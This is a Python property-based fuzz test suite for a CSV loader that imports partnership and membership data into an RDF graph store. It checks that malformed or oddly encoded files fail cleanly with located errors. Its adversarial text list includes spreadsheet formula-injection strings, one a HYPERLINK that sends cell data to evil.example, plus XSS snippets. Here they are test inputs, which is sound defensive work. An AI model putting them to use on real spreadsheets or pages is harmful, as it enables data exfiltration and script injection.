"""Fuzzing the CSV loader: any file either loads exactly or fails, located, writing nothing.

Hypothesis writes CSV files of partnerships and memberships with random encodings,
delimiters, quoting, line endings, blank lines, column orders and cell values (any Unicode,
right-to-left and combining marks, formula-like and HTML-like text, very long fields), and
spoils some of them on purpose (NUL and non-UTF-8 bytes, control characters, fields too long,
unknown or duplicate names, rows with too many fields). Each generated file knows whether it
is valid, so the property is exact:

* a valid file loads, and its graph holds exactly its rows (checked with SPARQL);
* any other file fails with ``BadDataError`` (every fault located in the file) or
  ``LimitExceededError``, and the store is unchanged, quad for quad.

The number of examples comes from the Hypothesis profile (``HYPOTHESIS_PROFILE``, see
``conftest.py``): a short run in CI, a long one under ``make fuzz``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, note, settings
from hypothesis import strategies as st
from rdflib import Literal, URIRef
from rdflib.term import Node

import s3graph
from s3graph.build import ONTOLOGY_GRAPH
from s3graph.loading import SHACL_MAX_ROWS, defined_names, known_names, load_csv
from s3graph.namespaces import graph_iri, organisation_iri, region_iri, role_iri, theme_iri
from s3graph.tables import MAX_FIELD_CHARS, MAX_LINE_CHARS, KnownNames, read_table
from s3graph.validation import ontology, validate_triples
from s3graph.vocabulary import ORGANISATION_TYPES, PLATFORMS, ROLES

from conftest import Cli, quads, quads_of

# -- the store the files are loaded into ----------------------------------------------------

REGIONS_CSV = """nuts_code,name,name_native,level,parent
ES,Spain,España,0,
ES2,Noreste,,1,ES
ES24,Aragón,,2,ES2
FI,Finland,Suomi,0,
FI1,Manner-Suomi,,1,FI
FI1D,Pohjois- ja Itä-Suomi,,2,FI1
FI1D7,Pohjois-Karjala,,3,FI1D
"""
PARTNERSHIPS_CSV = """partnership_id,name,platform
base-energy,Base Energy Partnership,energy
base-food,Base Food Partnership,agri-food
"""
ORGANISATIONS_CSV = """org_id,name,type,region
org-aragon,Aragon Agency,agency,ES24
org-karelia,Karelia Cluster,cluster,FI1D7
"""
REGION_CODES = ("ES", "ES2", "ES24", "FI", "FI1", "FI1D", "FI1D7")
ORG_IDS = ("org-aragon", "org-karelia")
BASE_PARTNERSHIPS = ("base-energy", "base-food")
TARGET = "fuzz/target"


@pytest.fixture(scope="module")
def fuzz_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[s3graph.Store]:
    """A small in-memory store (a few regions, partnerships, organisations), fast to dump."""
    folder = tmp_path_factory.mktemp("fuzz-base")
    store = s3graph.open_store("memory")
    store.replace_graph(ONTOLOGY_GRAPH, ontology())
    for name, text in (
        ("regions", REGIONS_CSV),
        ("partnerships", PARTNERSHIPS_CSV),
        ("organisations", ORGANISATIONS_CSV),
    ):
        path = folder / f"{name}.csv"
        path.write_text(text, encoding="utf-8")
        load_csv(store, path, graph=f"base/{name}")
    yield store
    store.close()


# -- cell values ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Cell:
    """One value as written in the file, what the graph should hold, and whether it is valid."""

    written: str
    stored: Node | None
    valid: bool = True


def invalid(written: str) -> Cell:
    return Cell(written, None, valid=False)


CONTROL = "".join(chr(code) for code in range(32) if chr(code) not in "\t\n\r")
ADVERSARIAL_TEXT = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"quoted", with, commas; and; semicolons',
    "\u202eevil.exe\u202c and \u200fRTL mark",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "e\u0301\u0302\u0303\u0304 Zalgo\u0336\u0337",
    "line\nbreak and\r\nCRLF and\rCR",
    "tab\tinside",
    "# not a comment } { ' \" \\ <> ",
    "\ufeffBOM inside",
    "\U0001f600 emoji \U0001f1ea\U0001f1f8",
    "\u2028line separator\u2029paragraph separator",
)
TEXT_CHARACTERS = st.characters(blacklist_categories=("Cs",), blacklist_characters=CONTROL)


def _random_case(draw: st.DrawFn, text: str) -> str:
    flips = draw(st.lists(st.booleans(), min_size=len(text), max_size=len(text)))
    return "".join(ch.swapcase() if flip else ch for ch, flip in zip(text, flips, strict=True))


def _padded(draw: st.DrawFn, text: str) -> str:
    pad = st.sampled_from(["", " ", "  ", "\t"])
    return draw(pad) + text + draw(pad)


@st.composite
def free_text(draw: st.DrawFn, *, required: bool, spoil: bool) -> Cell:
    """Text that is stored as it is (once trimmed), or, with ``spoil``, maybe spoilt."""
    choice = draw(st.integers(0 if spoil else 2, 19))
    if choice == 0:
        text = draw(free_text(required=True, spoil=False)).written
        return invalid(text + draw(st.sampled_from(CONTROL)) + text)
    if choice == 1:
        return invalid("x" * (MAX_FIELD_CHARS + draw(st.sampled_from([1, 40_000]))))
    if choice == 2 and not required:
        return Cell(_padded(draw, ""), None)
    if choice == 3:  # up to 200,000 characters: over the csv module's own field limit
        text = "long " * draw(st.integers(1, 40_000))
    elif choice < 8:
        text = draw(st.sampled_from(ADVERSARIAL_TEXT))
    else:
        text = draw(st.text(TEXT_CHARACTERS, min_size=1, max_size=30))
    stored = text.strip()
    if not stored:
        if required and not spoil:
            return draw(free_text(required=required, spoil=spoil))
        return Cell(text, None, valid=not required)
    return Cell(_padded(draw, text), Literal(stored))


@st.composite
def new_id(draw: st.DrawFn, *, spoil: bool) -> Cell:
    """A partnership id: valid (any case, padded), badly formed, or taken by another graph."""
    choice = draw(st.integers(0 if spoil else 2, 14))
    if choice == 0:
        return invalid(draw(st.sampled_from(["bad id", "-dash-first", "é", "a/b", "x" * 101])))
    if choice == 1:
        return invalid(draw(st.sampled_from(BASE_PARTNERSHIPS)))
    slug = draw(st.from_regex(r"[a-z0-9][a-z0-9._-]{0,20}", fullmatch=True))
    return Cell(_padded(draw, _random_case(draw, slug)), Literal(slug))


@st.composite
def choice_of(
    draw: st.DrawFn, options: dict[str, str], iri: Callable[[str], URIRef], *, spoil: bool
) -> Cell:
    """A controlled value by slug or label, any case, or an unknown one."""
    if spoil and draw(st.integers(0, 14)) == 0:
        return invalid(draw(st.sampled_from(["", "unknown", "energy-x", "leader"])))
    slug = draw(st.sampled_from(sorted(options)))
    written = draw(st.sampled_from([slug, options[slug]]))
    return Cell(_padded(draw, _random_case(draw, written)), iri(slug))


@st.composite
def member(draw: st.DrawFn, *, spoil: bool) -> Cell:
    """A NUTS code or organisation id, any case, or an unknown one."""
    choice = draw(st.integers(0 if spoil else 1, 14))
    if choice == 0:
        return invalid(draw(st.sampled_from(["ES99", "XX", "org-nobody", "ES 24"])))
    if choice < 8:
        code = draw(st.sampled_from(REGION_CODES))
        return Cell(_padded(draw, _random_case(draw, code)), region_iri(code))
    org = draw(st.sampled_from(ORG_IDS))
    return Cell(_padded(draw, _random_case(draw, org)), organisation_iri(org))


@st.composite
def since(draw: st.DrawFn, *, spoil: bool) -> Cell:
    """An optional date at year, month or day precision, or a malformed one."""
    choice = draw(st.integers(0 if spoil else 1, 9))
    if choice == 0:
        return invalid(draw(st.sampled_from(["2021-02-30", "21", "2021/01", "2021-13", "soon"])))
    date = draw(st.dates(min_value=dt.date(1000, 1, 1)))
    if choice < 4:
        return Cell("", None)
    text = draw(st.sampled_from([f"{date:%Y}", f"{date:%Y-%m}", f"{date:%Y-%m-%d}"]))
    return Cell(_padded(draw, text), Literal(text))


# -- files ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class RowKind:
    """How to generate rows of one kind, and how to read them back from the graph."""

    name: str
    columns: tuple[str, ...]
    optional: frozenset[str]
    cells: Callable[[bool], st.SearchStrategy[dict[str, Cell]]]
    key: tuple[str, ...]
    query: str


def _partnership_cells(spoil: bool) -> st.SearchStrategy[dict[str, Cell]]:
    return st.fixed_dictionaries(
        {
            "partnership_id": new_id(spoil=spoil),
            "name": free_text(required=True, spoil=spoil),
            "platform": choice_of(PLATFORMS.labels, theme_iri, spoil=spoil),
            "note": free_text(required=False, spoil=spoil),
            "reported_size": free_text(required=False, spoil=spoil),
        }
    )


def _membership_cells(spoil: bool) -> st.SearchStrategy[dict[str, Cell]]:
    known = st.sampled_from(BASE_PARTNERSHIPS).map(lambda slug: Cell(slug.upper(), Literal(slug)))
    return st.fixed_dictionaries(
        {
            "partnership_id": known | st.just(invalid("not-a-partnership")) if spoil else known,
            "member": member(spoil=spoil),
            "role": choice_of(ROLES.labels, role_iri, spoil=spoil),
            "since": since(spoil=spoil),
            "note": free_text(required=False, spoil=spoil),
        }
    )


def _organisation_cells(spoil: bool) -> st.SearchStrategy[dict[str, Cell]]:
    org_id = st.from_regex(r"[a-z0-9][a-z0-9._-]{0,20}", fullmatch=True).map(
        lambda slug: Cell(slug, Literal(slug))
    )
    region = st.sampled_from(REGION_CODES).map(lambda code: Cell(code, region_iri(code)))
    return st.fixed_dictionaries(
        {
            "org_id": org_id | st.just(invalid(ORG_IDS[0])) if spoil else org_id,
            "name": free_text(required=True, spoil=spoil),
            "type": choice_of(ORGANISATION_TYPES.labels, URIRef, spoil=spoil),
            "region": region | st.just(invalid("ES99")) if spoil else region,
            "note": free_text(required=False, spoil=spoil),
        }
    )


PARTNERSHIPS = RowKind(
    "partnerships",
    ("partnership_id", "name", "platform", "note", "reported_size"),
    frozenset({"note", "reported_size"}),
    _partnership_cells,
    ("partnership_id",),
    """SELECT ?g ?partnership_id ?name ?platform ?note ?reported_size WHERE { GRAPH ?g {
         ?p a s3:Partnership ; dct:identifier ?partnership_id ; skos:prefLabel ?label ;
            s3:platform ?platform .
         BIND(STR(?label) AS ?name)
         OPTIONAL { ?p skos:note ?note } OPTIONAL { ?p s3:reportedSize ?reported_size } } }""",
)
MEMBERSHIPS = RowKind(
    "memberships",
    ("partnership_id", "member", "role", "since", "note"),
    frozenset({"since", "note"}),
    _membership_cells,
    ("partnership_id", "member", "role"),
    """SELECT ?g ?partnership_id ?member ?role ?since ?note WHERE { GRAPH ?g {
         ?m a s3:Membership ; org:organization ?p ; org:member ?member ; org:role ?role .
         OPTIONAL { ?m org:memberDuring/time:hasBeginning ?instant .
                    ?instant time:inXSDgYear|time:inXSDgYearMonth|time:inXSDDate ?date
                    BIND(STR(?date) AS ?since) }
         OPTIONAL { ?m skos:note ?note } }
       ?p dct:identifier ?partnership_id }""",
)
KINDS = [PARTNERSHIPS, MEMBERSHIPS]
ORGANISATIONS = RowKind(
    "organisations",
    ("org_id", "name", "type", "region", "note"),
    frozenset({"region", "note"}),
    _organisation_cells,
    ("org_id",),
    "",  # read back by no test
)


@dataclass
class CsvCase:
    """A generated file: its bytes, how to load it, and what the graph should then hold."""

    kind: RowKind
    data: bytes
    delimiter: str | None
    expected: set[tuple[Node | None, ...]]
    faults: list[str] = field(default_factory=list)

    @property
    def valid(self) -> bool:
        return not self.faults


ENCODINGS = ("utf-8", "utf-8-sig", "latin-1", "utf-16", "utf-16-le")
LINE_ENDINGS = ("\n", "\r\n", "\r")
BAD_BYTES = (b"\x00", b"\xff", b"\xfe\xfe", b"\xc3(", b"\xed\xa0\x80")


def _csv_line(values: list[str], delimiter: str, quoting: int) -> str:
    """One CSV record ending in CRLF (so that fields holding CR or LF are quoted)."""
    line = io.StringIO(newline="")
    csv.writer(line, delimiter=delimiter, quoting=quoting, lineterminator="\r\n").writerow(values)
    return line.getvalue()


@st.composite
def csv_files(draw: st.DrawFn, kind: RowKind, *, spoil: bool = True) -> CsvCase:
    """A CSV file of ``kind``: valid, unless ``spoil`` lets the draw spoil it."""
    present = [
        column for column in kind.columns if column not in kind.optional or draw(st.booleans())
    ]
    columns = draw(st.permutations(present))
    delimiter = draw(st.sampled_from([",", ";"]))
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]))
    faults: list[str] = []
    expected: set[tuple[Node | None, ...]] = set()
    out = io.StringIO(newline="")
    header = [_padded(draw, _random_case(draw, column)) for column in columns]
    out.write(_csv_line(header, delimiter, quoting).removesuffix("\r\n"))
    out.write(draw(st.sampled_from(LINE_ENDINGS)))
    keys: set[tuple[Node | None, ...]] = set()
    for line, cells in enumerate(draw(st.lists(kind.cells(spoil), min_size=1, max_size=8)), 2):
        key = tuple(cells[column].stored for column in kind.key)
        if key in keys and all(cells[column].valid for column in kind.key):
            if not spoil:
                continue
            faults.append(f"line {line}: duplicate {key}")
        keys.add(key)
        faults += [
            f"line {line}: {column} {cells[column].written[:30]!r}"
            for column in columns
            if not cells[column].valid
        ]
        values = [cells[column].written for column in columns]
        if spoil and draw(st.integers(0, 29)) == 0:
            values.append("one too many")
            faults.append(f"line {line}: an extra field")
        expected.add(
            tuple(cells[column].stored if column in columns else None for column in kind.columns)
        )
        ending = draw(st.sampled_from(LINE_ENDINGS))
        if draw(st.integers(0, 9)) == 0:
            out.write(ending)  # a blank line, which is skipped
        out.write(_csv_line(values, delimiter, quoting).removesuffix("\r\n") + ending)
    text = out.getvalue()
    encoding = draw(st.sampled_from(ENCODINGS if spoil else ENCODINGS[:2]))
    try:
        data = text.encode(encoding)
    except UnicodeEncodeError:
        encoding = "utf-8"
        data = text.encode(encoding)
    if encoding.startswith("utf-16") or (encoding == "latin-1" and not text.isascii()):
        faults.append(f"encoded as {encoding}")
    if spoil and draw(st.integers(0, 14)) == 0:
        position = draw(st.integers(0, len(data)))
        byte = draw(st.sampled_from(BAD_BYTES))
        data = data[:position] + byte + data[position:]
        faults.append(f"bytes {byte!r} at {position}")
    return CsvCase(kind, data, draw(st.sampled_from([None, delimiter])), expected, faults)


# -- the properties -------------------------------------------------------------------------


def check_load(store: s3graph.Store, case: CsvCase, path: Path) -> None:
    """Load ``case`` and check the outcome against what the file should give."""
    path.write_bytes(case.data)
    note(f"faults planted: {case.faults}")
    before = quads_of(store)
    try:
        report = load_csv(store, path, graph=TARGET, delimiter=case.delimiter)
    except s3graph.BadDataError as err:
        note(str(err))
        event("refused")
        assert not case.valid, f"a valid file was refused: {err}"
        assert err.faults, "a BadDataError without faults"
        for fault in err.faults:
            assert fault.file == str(path), fault
            assert f"{path}:{fault.line}" in str(err)
        assert quads_of(store) == before
        return
    event("loaded")
    try:
        assert case.valid, f"an invalid file was loaded ({case.faults})"
        assert report.rows == len(case.expected)
        rows = [row[1:] for row in store.select(case.kind.query, {"g": graph_iri(TARGET)})]
        assert len(rows) == len(case.expected), rows
        assert set(rows) == case.expected
    finally:
        store.drop_graph(graph_iri(TARGET))
    assert quads_of(store) == before


FUZZ_SETTINGS = settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@pytest.fixture(scope="module")
def csv_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where each generated file is written (Hypothesis runs one example at a time)."""
    return tmp_path_factory.mktemp("fuzz") / "input.csv"


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
@FUZZ_SETTINGS
@given(data=st.data())
def test_valid_files_load_exactly(
    fuzz_store: s3graph.Store, csv_path: Path, kind: RowKind, data: st.DataObject
) -> None:
    check_load(fuzz_store, data.draw(csv_files(kind, spoil=False)), csv_path)


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
@FUZZ_SETTINGS
@given(data=st.data())
def test_any_file_loads_exactly_or_fails_located_and_writes_nothing(
    fuzz_store: s3graph.Store, csv_path: Path, kind: RowKind, data: st.DataObject
) -> None:
    check_load(fuzz_store, data.draw(csv_files(kind)), csv_path)


@pytest.mark.parametrize("kind", [*KINDS, ORGANISATIONS], ids=lambda kind: kind.name)
@FUZZ_SETTINGS
@given(data=st.data())
def test_every_file_the_reader_accepts_meets_the_shapes(
    fuzz_store: s3graph.Store, csv_path: Path, kind: RowKind, data: st.DataObject
) -> None:
    """Why a file of more than ``SHACL_MAX_ROWS`` rows may skip the SHACL check of its batch.

    The check it skips is the one run here, on the same triples, against the same store.
    """
    assert SHACL_MAX_ROWS >= 1_000
    case = data.draw(csv_files(kind, spoil=data.draw(st.booleans())))
    csv_path.write_bytes(case.data)
    known = known_names(defined_names(fuzz_store), excluding=graph_iri(TARGET))
    try:
        table = read_table(csv_path, known=known, delimiter=case.delimiter)
    except s3graph.BadDataError:
        event("refused by the reader")
        return
    event("accepted by the reader")
    report = validate_triples(table.triples(), reference=fuzz_store)
    assert report.conforms, report.violations


# -- the same through the command line ------------------------------------------------------


@pytest.fixture(scope="module")
def fuzz_store_path(fuzz_store: s3graph.Store, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An on-disk copy of the small fuzzing store, for the command line."""
    path = tmp_path_factory.mktemp("fuzz-cli") / "store"
    with s3graph.open_store(str(path), write=True) as store:
        for graph in fuzz_store.named_graphs():
            store.replace_graph(graph, fuzz_store.graph(graph))
    return path


CLI_SETTINGS = settings(FUZZ_SETTINGS, max_examples=max(5, settings.default.max_examples // 3))


@CLI_SETTINGS
@given(case=csv_files(PARTNERSHIPS))
def test_cli_loads_a_file_or_says_why_in_one_error_message(
    fuzz_store_path: Path, csv_path: Path, case: CsvCase
) -> None:
    csv_path.write_bytes(case.data)
    before = quads(fuzz_store_path)
    result = Cli(fuzz_store_path)("load", str(csv_path), "--graph", TARGET)
    if result.exit_code == 0:
        assert case.valid, f"an invalid file was loaded ({case.faults})"
        with s3graph.open_store(str(fuzz_store_path), write=True) as store:
            store.drop_graph(graph_iri(TARGET))
    else:
        assert not case.valid, result.output
        assert result.exit_code == 1
        assert result.output.startswith("Error: ") and result.output.count("Error:") == 1
        assert f"{csv_path}:" in result.output
        assert "Traceback" not in result.output
    assert quads(fuzz_store_path) == before


NASTY_FILES = {
    "utf-16": "partnership_id,name,platform\nx,Café,energy\n".encode("utf-16"),
    "utf-16 without a byte-order mark": "partnership_id,name\n".encode("utf-16-le"),
    "latin-1": "partnership_id,name,platform\nx,Café,energy\n".encode("latin-1"),
    "binary": bytes(range(256)) * 4,
    "one endless line": b"partnership_id,name,platform," + b"x" * (MAX_LINE_CHARS + 10),
    "empty": b"",
}


@pytest.mark.parametrize("name", NASTY_FILES)
def test_a_real_process_refuses_nasty_files_without_a_traceback(
    fuzz_store_path: Path, tmp_path: Path, name: str
) -> None:
    path = tmp_path / "nasty.csv"
    path.write_bytes(NASTY_FILES[name])
    result = subprocess.run(
        [sys.executable, "-m", "s3graph", "--store", str(fuzz_store_path), "load", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 1
    assert result.stderr.startswith(f"Error: 1 fault; nothing was written:\n{path}:")
    assert "Traceback" not in result.stderr
    assert result.stdout == ""


# -- encodings and line endings, case by case -------------------------------------------------


def test_a_utf16_file_is_named_as_such_with_the_fix(tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes(NASTY_FILES["utf-16"])
    with pytest.raises(s3graph.BadDataError) as caught:
        read_table(path, known=KnownNames())
    assert [str(fault) for fault in caught.value.faults] == [
        f"{path}:1: the file is UTF-16 (it starts with a UTF-16 byte-order mark); "
        "save it as UTF-8 (in a spreadsheet program: 'CSV UTF-8')"
    ]


def test_a_utf16_file_without_byte_order_mark_gets_a_hint(tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes(NASTY_FILES["utf-16 without a byte-order mark"])
    with pytest.raises(s3graph.BadDataError) as caught:
        read_table(path, known=KnownNames())
    assert str(caught.value.faults[0]) == (
        f"{path}:1: NUL byte in file (value '\\\\x00'); the file is not a text CSV; "
        "if it is UTF-16, save it as UTF-8"
    )


def test_a_byte_that_is_not_utf8_is_located_exactly_deep_in_a_file(tmp_path: Path) -> None:
    path = tmp_path / "late.csv"
    head = b"partnership_id,name,platform\n" + b"".join(
        b"p%05d,Name,energy\n" % number for number in range(10_000)
    )
    path.write_bytes(head + b"p2,Caf\xe9,energy\n")
    with pytest.raises(s3graph.BadDataError) as caught:
        read_table(path, known=KnownNames())
    assert str(caught.value.faults[0]) == (
        f"{path}:10002: not UTF-8 (byte {len(head) + 6}) (value '\\\\xe9,en'); "
        "save the file as UTF-8"
    )


def test_the_delimiter_is_sniffed_from_the_header_line_alone_whatever_the_line_ending(
    fuzz_store: s3graph.Store, tmp_path: Path
) -> None:
    path = tmp_path / "classic-mac.csv"
    path.write_text(
        "partnership_id;name;platform\rcr-only;A, b, c, d, e, f;energy\r", encoding="utf-8"
    )
    try:
        assert load_csv(fuzz_store, path, graph=TARGET).rows == 1
    finally:
        fuzz_store.drop_graph(graph_iri(TARGET))
